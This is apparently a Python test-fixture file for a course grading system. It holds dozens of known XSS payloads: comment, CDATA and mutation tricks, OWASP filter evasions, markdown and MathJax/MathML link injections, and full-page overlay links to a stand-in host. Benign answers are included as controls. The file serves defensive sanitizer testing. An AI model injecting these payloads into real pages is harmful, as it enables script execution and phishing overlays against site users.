"""Known XSS vectors, each written as a learner could hand it in: a markdown cell's source.

Drawn from the OWASP XSS filter-evasion cheat sheet, html5sec.org (comment, CDATA, foreign-content and
mutation tricks), PortSwigger's cheat sheet (event handlers that need no interaction) and MathJax's own
extensions (``\\href``, ``\\style``, ``\\class``); :data:`MATHML_VECTORS` aims at the feedback page's
MathML.  Each vector calls ``alert(1)`` (or navigates, or overlays the page) if it works, so the browser test
can count script executions; the unit tests check nh3's verdict on each.  Used by tests/grading/task/test_inert.py,
tests/grading/task/test_mathml.py and tests/browser/test_xss.py.
"""

from __future__ import annotations

OVERLAY = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999"

VECTORS: dict[str, str] = {
    # --- html5sec / parser differentials: a browser reads these unlike Python's html.parser
    "empty comment <!--->": "<!---><img src=x onerror=alert(1)>-->",
    "comment closed by --!>": "<!-- --!><img src=x onerror=alert(1)>-->",
    "comment in an attribute": '<p title="<!--"><img src=x onerror=alert(1)>-->',
    "CDATA outside foreign content": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "CDATA in svg": '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    "style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mathml mglyph mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "processing instruction": "<?xml-stylesheet href=javascript:alert(1)?><img src=x onerror=alert(1)>",
    "bogus end tag": "</x onerror=alert(1)><img src=x onerror=alert(1)>",
    # --- OWASP filter evasion
    "script tag": "<script>alert(1)</script>",
    "script with src": '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>',
    "nested open bracket": "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "malformed img quotes": '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "img javascript src": "<IMG SRC=JaVaScRiPt:alert(1)>",
    "img entity-encoded src": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "img hex entities no semicolon": "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "tab in scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline in scheme": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "leading space and control": '<a href=" &#14;  javascript:alert(1)">x</a>',
    "body onload with junk": "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "unknown tag handler": "<xss onmouseover=alert(1) style=display:block>hover</xss>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "input autofocus": "<input onfocus=alert(1) autofocus>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "audio onerror": "<audio src=x onerror=alert(1)></audio>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "iframe javascript": "<iframe src=javascript:alert(1)></iframe>",
    "iframe srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form action": '<form action="javascript:alert(1)"><input type=submit></form>',
    "button formaction": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "link import": '<link rel=stylesheet href="http://xss.invalid/x.css">',
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "img srcset": '<img srcset="javascript:alert(1)">',
    "data URL link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data URL svg iframe": '<iframe src="data:image/svg+xml,<svg onload=alert(1)>"></iframe>',
    "svg a xlink:href": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "svg animate set href": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg animate onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "mathml maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "style import": "<style>@import 'http://xss.invalid/x.css';</style>",
    "css url javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "css expression": '<div style="width: expression(alert(1))">x</div>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    # --- overlays: no script, but a link laid over the whole page
    "full-page link by style": f'<a href="https://xss.invalid/" style="{OVERLAY}">x</a>',
    "full-page div by style": f'<div style="{OVERLAY}"><a href="https://xss.invalid/">x</a></div>',
    "bootstrap fixed class": '<a class="navbar-fixed-top modal-backdrop" href="https://xss.invalid/">x</a>',
    # --- markdown
    "markdown link": "[click](javascript:alert(1))",
    "markdown link mixed case": "[click](JaVaScRiPt:alert(1))",
    "markdown link entity": "[click](&#106;avascript:alert(1))",
    "markdown image": "![x](javascript:alert(1))",
    "markdown autolink": "<javascript:alert(1)>",
    "markdown reference link": "[click][1]\n\n[1]: javascript:alert(1)",
    "markdown data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown html block": "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    # --- MathJax reads the page's text
    "MathJax href": r"$\href{javascript:alert(1)}{x}$",
    "MathJax href display": r"$$\href{javascript:alert(1)}{x}$$",
    "MathJax href entity": r"$\href{&#106;avascript:alert(1)}{x}$",
    "MathJax href parentheses": r"\(\href{javascript:alert(1)}{x}\)",
    "MathJax style overlay": rf"$\style{{{OVERLAY}}}{{\href{{https://xss.invalid/}}{{x}}}}$",
    "MathJax class": r"$\class{modal-backdrop}{x}$",
    "MathJax cssId": r"$\cssId{header}{x}$",
}

# The feedback page typesets maths itself, as MathML (course_lib/grading/task/mathml.py): LaTeX that latex2mathml
# turns into links, styles, names, colours, markup or negative spaces, and raw MathML with links ("raw ...",
# which the inert step turns off before any page renders it).
MATHML_VECTORS: dict[str, str] = {
    "href": r"$\href{javascript:alert(1)}{x}$",
    "href display": r"$$\href{javascript:alert(1)}{\text{click me}}$$",
    "href in an environment": r"\begin{equation}\href{javascript:alert(1)}{x}\end{equation}",
    "style overlay": rf"$\style{{{OVERLAY}}}{{\href{{https://xss.invalid/}}{{x}}}}$",
    "class": r"$\class{modal-backdrop}{x}$",
    "cssId": r"$\cssId{header}{x}$",
    "unicode markup": r"$\unicode{x3C}img src=x onerror=alert(1)\unicode{x3E}$",
    "unicode breaking out": r'$\unicode{"><img src=x onerror=alert(1)>}$',
    "unicode font": r"$\unicode[https://xss.invalid/font]{x41}$",
    "mathcolor": r"$\mathcolor{red}{x} \color{red}{y} \colorbox{red}{z}$",
    "text markup": r"$\text{<img src=x onerror=alert(1)>}$",
    "text markup with tabs": "$\\text{<img\tsrc=x\tonerror=alert(1)>}$",  # latex2mathml turns spaces into &nbsp;
    "text closing the math": r"$$\text{</math><img src=x onerror=alert(1)>}$$",
    "negative spaces": r"$\hspace{-100cm}x \kern-50em y \mkern-90mu z \! w \smash{v}$",
    "overlapping boxes": r"$\rlap{\text{overlay}}x \mathllap{\text{overlay}}y$",
    "raw xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "raw href and style": f'<math><mi href="javascript:alert(1)" style="{OVERLAY}">x</mi></math>',
}

# Ordinary answers that must come through untouched: what learners write and the course's notebooks use.
BENIGN: list[str] = [
    "Plain *text*, `a < b` in code, $x < y$ in maths, a [link](https://pytorch.org) and a [relative](../02_rnn).",
    '<details><summary>hint</summary>text</details> <span style="color:red">red</span><br><b>bold</b>',
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] task\n- [x] done",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "```python\n# code may mention javascript:alert(1) and <script>\n```",
    "## A heading\n\n> a quote with **bold** and <sub>sub</sub>, <sup>sup</sup>, <kbd>Ctrl</kbd>",
    "$$h_t = \\tanh(W_{ih} x_t + b_{ih} + W_{hh} h_{t-1} + b_{hh})$$",
    '<table><tr><th>gate</th><td align="center">$\\sigma$</td></tr></table>',
    "A link to the [docs](https://pytorch.org/docs/stable/generated/torch.nn.RNN.html#torch.nn.RNN).",
]
